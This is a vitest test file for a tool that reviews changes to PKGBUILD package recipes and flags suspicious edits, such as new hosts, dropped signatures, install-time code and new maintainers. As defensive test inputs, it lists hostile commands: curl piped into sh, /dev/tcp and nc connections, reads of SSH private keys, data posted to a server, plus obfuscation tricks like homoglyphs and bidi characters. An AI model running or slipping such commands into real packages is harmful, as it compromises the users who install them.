import { describe, expect, it } from 'vitest';
import {
  type ChangeReport,
  type FileMode,
  type Finding,
  type RecipeFolder,
  type ReviewFacts,
  renderReportMarkdown,
  renderReportText,
  reviewChange,
} from './index.ts';

const plain = `# Maintainer: Jane <jane@example.org>
pkgname=foo
pkgver=1
pkgrel=1
url=https://example.org
depends=(glibc)
source=("https://example.org/$pkgname-$pkgver.tar.gz"{,.sig}
        "git+https://code.example.net/lib.git#commit=abc")
sha256sums=('aa' 'SKIP' 'SKIP')
validpgpkeys=(AAAA)

build() {
  make
}

package() {
  make DESTDIR="$pkgdir" install
}
`;

type Files = Readonly<Record<string, string | Uint8Array>>;
const folder = (files: Files, modes: Readonly<Record<string, FileMode>> = {}): RecipeFolder => ({
  files: new Map(Object.entries(files).map(([path, content]) => [path, Buffer.from(content)])),
  modes: new Map(Object.entries(modes)),
});

/** The report on one replacement in the plain recipe, and on more files of the new side. */
function review(from: string, to: string, more: Files = {}, facts: Partial<ReviewFacts> = {}): ChangeReport {
  const after = plain.replace(from, () => to);
  if (from !== '' && after === plain) throw new Error(`'${from}' is not in the recipe`);
  return reviewChange(folder({ PKGBUILD: plain }), folder({ PKGBUILD: after, ...more }), {
    package: 'foo',
    ...facts,
  });
}
const lines = (report: ChangeReport, topic?: Finding['topic']): readonly string[] =>
  report.findings
    .filter((one) => topic === undefined || one.topic === topic)
    .map(
      ({ weight, what, shown }) =>
        `${weight === 'alarm' ? '! ' : ''}${what}${shown === undefined ? '' : `: ${shown}`}`,
    );
const inBuild = (command: string): readonly string[] =>
  lines(review('  make\n', `  ${command}\n  make\n`), 'suspicious');

describe('the report on a change', () => {
  it('has nothing to say of a bump', () => {
    expect(review('pkgver=1', 'pkgver=2')).toMatchObject({ size: 'minor', findings: [] });
    expect(review('', '')).toMatchObject({ size: 'none', findings: [] });
  });

  it('names what runs at build time that did not, with its place', () => {
    const report = review('  make\n', '  make\n  x="$(curl https://a/)"\n');
    expect(report.findings).toContainEqual({
      topic: 'build-time',
      weight: 'notice',
      what: "runs in 'build' at build time",
      shown: 'curl https://a/',
      file: 'PKGBUILD',
      line: 14,
    });
    expect(lines(review('pkgrel=1', 'pkgrel=1\nid'), 'build-time')).toEqual([
      '! runs whenever the recipe is read: id',
    ]);
    expect(lines(review('pkgrel=1', 'pkgrel=1\nhelp() { id; }'), 'build-time')).toEqual([
      'runs in a function at build time: id',
    ]);
    expect(lines(review('  make\n', '  cat <<E\n$(id)\nE\n  make\n'), 'build-time')).toEqual([
      "runs in 'build' at build time: cat <<E ⏎ $(id)",
      "runs in 'build' at build time: id",
    ]);
  });

  it('names what runs on the systems of users', () => {
    const report = review('depends', 'install=foo.install\ndepends', {
      'foo.install': 'post_install() {\n  id\n}\nls\n',
      'foo.hook': '[Action]\nExec = /bin/x\n',
      'foo.service': '[Service]\nExecStart=/bin/y\n',
    });
    expect(lines(report, 'install-time')).toEqual([
      "! runs as root on the systems of users, in 'post_install': id",
      '! runs as root on the systems of users whenever the scriptlet is read: ls',
      '! runs on the systems of users (hook of pacman): Exec = /bin/x',
      '! runs on the systems of users (systemd unit): ExecStart=/bin/y',
      '! names another install scriptlet: install: (none) → foo.install',
    ]);
  });

  it('compares scriptlets also when they get another name', () => {
    const scriptlet = 'post_install() {\n  id\n}\n';
    const before = folder({ PKGBUILD: 'install=a.install\n', 'a.install': scriptlet });
    const after = folder({ PKGBUILD: 'install=b.install\n', 'b.install': scriptlet });
    const report = reviewChange(before, after, { package: 'foo' });
    expect(lines(report, 'install-time')).toEqual([
      '! names another install scriptlet: install: a.install → b.install',
    ]);
  });

  it.each([
    ['curl https://a/ | sh', 'pipes what it has downloaded or decoded into an interpreter'],
    ['curl https://a/ | sudo -u x bash -s', 'pipes what it has downloaded or decoded into an interpreter'],
    ['(wget -O- a | base64 -d) | python3', 'pipes what it has downloaded or decoded into an interpreter'],
    ['bash <(curl https://a/)', 'runs what it has downloaded or decoded'],
    ['sh -c "$(wget -qO- https://a/)"', 'runs what it has downloaded or decoded'],
    ['. /dev/stdin <<< "$(curl a)"', 'runs what it has downloaded or decoded'],
    ['eval "$x"', 'evaluates text as code'],
    ['echo aa | base64 --decode > y', 'decodes hidden bytes'],
    ['openssl enc -d -aes-256-cbc -in x', 'decodes hidden bytes'],
    ["printf '\\x63\\x75\\x72\\x6c'", 'writes bytes as numbers'],
    ['exec 3<>/dev/tcp/1.2.3.4/80', 'opens a network connection of the shell'],
    ['3<>/dev/udp/1.2.3.4/80', 'opens a network connection of the shell'],
    ['nc 1.2.3.4 80', 'talks to the network through a raw connection'],
    ['curl -d @x https://a/', 'sends data to a server'],
    ['npm install atomic-lockfile', 'installs from a registry, which no checksum covers'],
    ['npm exec x', 'installs from a registry, which no checksum covers'],
    ['npx x', 'installs from a registry, which no checksum covers'],
    ['pip3 install --user requests', 'installs from a registry, which no checksum covers'],
    ['python -m pip install x', 'installs from a registry, which no checksum covers'],
    ['cargo install x', 'installs from a registry, which no checksum covers'],
    ['go install a.b/c@latest', 'installs from a registry, which no checksum covers'],
    ['bun add js-digest', 'installs from a registry, which no checksum covers'],
    ['cp x /usr/bin/x', 'writes outside of the package'],
    ['echo x > /etc/x', 'writes outside of the package'],
    ['tee -a ~/x', 'writes outside of the package'],
    ['rm -rf "$HOME/x"', 'writes outside of the package'],
    ['sed -i s/a/b/ /etc/x', 'writes outside of the package'],
    ['cat ~/.ssh/id_ed25519', 'names private or system files'],
    ['sudo x', 'asks for the rights of root'],
    ['install -Dm4755 x "$pkgdir/usr/bin/x"', 'gives a file the rights of its owner'],
    ['chmod u+s "$pkgdir/x"', 'gives a file the rights of its owner'],
    ['systemctl enable x', 'starts something that stays'],
    ["alias make='x'", 'changes what later commands mean'],
    ['x=`if`', 'hides a command that cannot be read'],
    ['m\u0430ke', 'runs a command whose name has foreign letters'],
    [`make ${' '.repeat(100)}; id`, 'pushes text out of view with blanks'],
    ['make \u202e', 'has characters that are not seen or turn the order of the others'],
  ])('rings the bell for: %s', (command, what) => {
    const found = inBuild(command);
    expect(
      found.some((line) => line.startsWith(`! ${what}: `)),
      found.join('\n'),
    ).toBe(true);
    expect(lines(review('', ''), 'suspicious')).toEqual([]);
  });

  it.each([
    ['curl -LO https://a/', 'downloads by itself, which no checksum covers'],
    ['git clone https://a/b', 'downloads by itself, which no checksum covers'],
    ['python -c "x"', 'runs code given as an argument'],
    ['"$cmd" x', 'runs whatever an expansion names'],
  ])('mentions: %s', (command, what) => {
    expect(inBuild(command).some((line) => line.startsWith(`${what}: `))).toBe(true);
  });

  it.each([
    'make -j4 > /dev/null 2>&1',
    'install -Dm755 x "$pkgdir/usr/bin/x"',
    'install -Dm755 /usr/share/x/y -t "$pkgdir/usr"',
    'npm ci --offline',
    'pip install --no-index ./x.whl',
    'npm install ./x.tgz',
    'pnpm exec electron-builder --linux',
    'npm exec -c "electron-builder --linux"',
    'cargo build --locked',
    'go build ./...',
    'cp -r . "$srcdir/x"',
    'sed -i s/a/b/ x',
    "printf '%s\\n' x | sort | sh-nothing",
    'python setup.py build',
    'ln -s /usr/lib/x "$pkgdir/usr/bin/x"',
    'curl_opts=1',
  ])('stays calm at: %s', (command) => {
    expect(inBuild(command)).toEqual([]);
  });

  it.each([
    ['DLAGENTS=(x)', 'sets a variable that makepkg or all programs obey'],
    ['PATH=/x:$PATH', 'sets a variable that makepkg or all programs obey'],
    ['install() { id; }', 'puts a function in the place of a program'],
    ['verify_signature() { :; }', 'puts a function in the place of a program'],
    ['if', 'cannot be read any further'],
  ])('rings the bell outside of functions for: %s', (text, what) => {
    const found = lines(review('pkgrel=1\n', `pkgrel=1\n${text}\n`), 'suspicious');
    expect(
      found.some((line) => line.startsWith(`! ${what}: `)),
      found.join('\n'),
    ).toBe(true);
  });

  it('rings the bell for downloads on the systems of users', () => {
    const report = review('pkgver=1', 'pkgver=2', { 'foo.install': 'post_upgrade() {\n  wget x\n}\n' });
    expect(lines(report, 'suspicious')).toEqual(['! downloads on the systems of users: wget x']);
  });

  it('names new hosts, also when only a variable changed or .SRCINFO tells', () => {
    expect(lines(review('https://example.org/$', 'https://evil.example/$'), 'sources')[0]).toBe(
      '! fetches from a host that it did not know: evil.example: https://evil.example/foo-1.tar.gz',
    );
    const before = folder({ PKGBUILD: '_u=https://a.org\nsource=("$_u/x")\n' });
    const after = folder({ PKGBUILD: '_u=https://b.org\nsource=("$_u/x")\n' });
    expect(lines(reviewChange(before, after, { package: 'x' }), 'sources')).toEqual([
      '! fetches from a host that it did not know: b.org: https://b.org/x',
    ]);
    const listed = review('pkgver=1', 'pkgver=2', {
      '.SRCINFO': 'pkgbase = foo\n\tsource = https://c.org/x\n',
    });
    expect(lines(listed, 'sources')).toEqual([
      '! fetches from a host that it did not know: c.org: https://c.org/x',
    ]);
    expect(lines(review('example.org/$', 'ex\u0430mple.org/$'), 'sources')[0]).toMatch(/foreign letters/);
    expect(lines(review('example.org/$', '$(id)/$'), 'sources')[0]).toMatch(/only the run tells/);
  });

  it('names pins and signatures that went away, and weak transport', () => {
    expect(lines(review('#commit=abc', ''), 'sources')).toEqual([
      '! takes whatever its repository has, instead of one commit or tag: git+https://code.example.net/lib.git',
    ]);
    expect(lines(review('#commit=abc', '#commit=def'), 'sources')).toEqual([
      'takes another commit or tag: git+https://code.example.net/lib.git#commit=def',
    ]);
    expect(lines(review('{,.sig}', ''), 'sources')).toEqual([
      '! verifies a signature no more: https://example.org/$pkgname-$pkgver.tar.gz.sig',
    ]);
    expect(lines(review('https://example.org/$', 'http://example.org/$'), 'sources')).toContain(
      'fetches without encryption: http://example.org/foo-1.tar.gz',
    );
  });

  it('names checksums and keys that changed', () => {
    expect(lines(review("'aa'", "'SKIP'"), 'checksums')).toEqual([
      "! has more sources without a checksum ('SKIP'): sha256sums",
    ]);
    expect(lines(review('sha256sums', 'md5sums'), 'checksums')).toEqual([
      "! has more sources without a checksum ('SKIP'): md5sums",
      '! has checksums of a kind no more: sha256sums',
      '! relies on weaker checksums: md5sums',
    ]);
    expect(lines(review('AAAA', 'BBBB'), 'keys')).toEqual([
      '! trusts a key that it did not trust: validpgpkeys: BBBB',
      'trusts a key no more: validpgpkeys: AAAA',
    ]);
  });

  it('names maintainers that changed, in facts and in comments', () => {
    const facts = { maintainersBefore: ['Jane', 'bob'], maintainersAfter: ['jane', 'mallory'] };
    const report = review('Jane <jane', 'Mallory <mal', {}, facts);
    expect(lines(report, 'maintainers')).toEqual([
      '! has a new maintainer: mallory',
      '! names somebody new in its comments: Maintainer: Mallory <mal@example.org>',
      'has lost a maintainer: bob',
      'names somebody no more in its comments: Maintainer: Jane <jane@example.org>',
    ]);
    expect(
      lines(review('', '', {}, { maintainersBefore: ['a'], maintainersAfter: [] }), 'maintainers'),
    ).toEqual(['! has no maintainer', 'has lost a maintainer: a']);
  });

  it('names dependencies, also those of packages, and what replaces others', () => {
    expect(lines(review('(glibc)', '(glibc curl)'), 'dependencies')).toEqual([
      'needs a package that it did not need: depends: curl',
    ]);
    expect(lines(review('  make DESTDIR', '  replaces+=(sudo)\n  make DESTDIR'), 'dependencies')).toEqual([
      '! provides, replaces or conflicts with something that it did not: package: replaces: sudo',
    ]);
  });

  it('names files: programs, links, modes, patches and what they touch', () => {
    const report = reviewChange(
      folder({ PKGBUILD: plain, 'old.patch': 'x', run: '#!/bin/sh\n' }),
      folder(
        {
          PKGBUILD: plain,
          'new.patch': '--- a/configure\n+++ b/configure\n@@ -1 +1 @@\n-a\n+b\n',
          tool: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1]),
          data: Buffer.from([1, 0, 2]),
          away: '/etc/passwd',
          run: '#!/bin/sh\nid\n',
        },
        { away: '120000', run: '100755' },
      ),
      { package: 'foo' },
    );
    expect(report.size).toBe('major');
    expect(report.findings.map(({ file, what, shown }) => [file, what, shown])).toEqual([
      ['away', 'is a link', '/etc/passwd'],
      ['data', 'is binary, nobody can read it', undefined],
      ['run', 'is another kind of file', '100644 → 100755'],
      ['tool', 'is a program', undefined],
      ['away', 'is new', undefined],
      ['data', 'is new', undefined],
      ['new.patch', 'a patch, which changes what is built, is new', 'configure'],
      ['old.patch', 'is gone', undefined],
      ['run', 'a script differs', undefined],
      ['tool', 'is new', undefined],
    ]);
  });

  it('shows what a hook of the recipe repository runs, and takes it as major', () => {
    const before = folder({ PKGBUILD: plain, '.CI/prepare': 'id\n' });
    const after = folder({ PKGBUILD: plain, '.CI/prepare': 'id\ncurl https://x.example/y | sh\n' });
    expect(lines(reviewChange(before, after, { package: 'foo' }))).toEqual([]);
    const report = reviewChange(before, after, { package: 'foo', comparesHooks: true });
    expect([report.size, report.reasons.map(({ rule }) => rule)]).toEqual(['major', ['hook']]);
    expect(report.findings.map(({ topic, weight, file }) => [topic, weight, file])).toEqual([
      ['suspicious', 'alarm', '.CI/prepare'],
      ['suspicious', 'notice', '.CI/prepare'],
      ['build-time', 'alarm', '.CI/prepare'],
      ['build-time', 'notice', '.CI/prepare'],
    ]);
    expect(report.findings.at(-1)).toMatchObject({ line: 2, shown: 'curl https://x.example/y | sh' });
    expect(
      reviewChange(after, folder({ PKGBUILD: plain }), { package: 'foo', comparesHooks: true }).size,
    ).toBe('none');
  });

  it.each([
    ['CI_PKGBUILD_SOURCE=custom', 'CI_PKGBUILD_SOURCE=https://x.example/y.git', 'major'],
    ['', 'CI_PKGBUILD_CHANGE_ALLOW_REGEX=.*', 'major'],
    ['BUILDER_CLASS=1', 'BUILDER_CLASS=5', 'minor'],
    ['BUILDER_CLASS=1', '# a comment\nBUILDER_CLASS=1', 'none'],
  ])('takes settings %j to %j as %s', (was, is, size) => {
    const of = (text: string) => folder({ PKGBUILD: plain, '.CI/config': text });
    const report = reviewChange(of(was), of(is), { package: 'foo', comparesHooks: true });
    expect(report.size).toBe(size);
    expect(report.findings.map(({ topic }) => topic)).toEqual(size === 'none' ? [] : ['metadata']);
  });

  it('takes a recipe that is new as new altogether', () => {
    const report = reviewChange(folder({}), folder({ PKGBUILD: plain }), { package: 'foo' });
    expect(report.size).toBe('major');
    expect(lines(report, 'build-time')).toEqual([
      "runs in 'build' at build time: make",
      'runs in \'package\' at build time: make DESTDIR="$pkgdir" install',
    ]);
    expect(lines(report, 'sources')).toHaveLength(3);
  });
});

describe('a report in words', () => {
  const report = review('  make\n', '  curl `x` | sh # `` [x](y) @all\n  make\n');

  it('says plainly that only the recipe was compared', () => {
    const words =
      'Only the recipe was compared. What the upstream project itself has changed is not part of this report.';
    expect(renderReportText(report, { colour: false })).toContain(words);
    expect(renderReportMarkdown(report)).toContain(words);
    expect(renderReportMarkdown(review('pkgver=1', 'pkgver=2'))).toContain(words);
  });

  it('has colours only when asked for, and no control characters of strangers', () => {
    const odd = review('  make\n', '  echo \u001b[31m\u202e\n');
    expect(renderReportText(odd, { colour: false })).not.toMatch(/\u001b|\u202e/);
    expect(renderReportText(odd, { colour: true })).toMatch(/\u001b\[31m!/);
    expect(renderReportMarkdown(odd)).not.toMatch(/\u001b|\u202e/);
  });

  it('keeps the words of strangers in code spans', () => {
    const markdown = renderReportMarkdown(report);
    const outside = markdown.replace(/(`+)(?!`)[\s\S]*?[^`]\1(?!`)/g, '');
    expect(markdown).toContain('curl `x` | sh');
    expect(outside).not.toMatch(/curl|@all|\[x\]/);
    const name = reviewChange(folder({}), folder({ 'a`](x) @all\n# b': '' }), { package: 'foo' });
    expect(renderReportMarkdown(name)).not.toMatch(/^# b/m);
  });

  it('is never longer than asked for', () => {
    const many = Array.from({ length: 3000 }, (_, index) => `  tool${index} ${'x'.repeat(150)}`).join('\n');
    const long = review('  make\n', `${many}\n`);
    expect(renderReportMarkdown(long).length).toBeLessThanOrEqual(20_000);
    expect(renderReportMarkdown(long)).toMatch(/and 2975 more/);
    expect(renderReportMarkdown(long, 2000).length).toBeLessThanOrEqual(2000);
    expect(renderReportMarkdown(long, 2000)).toMatch(/cut here/);
  });
});
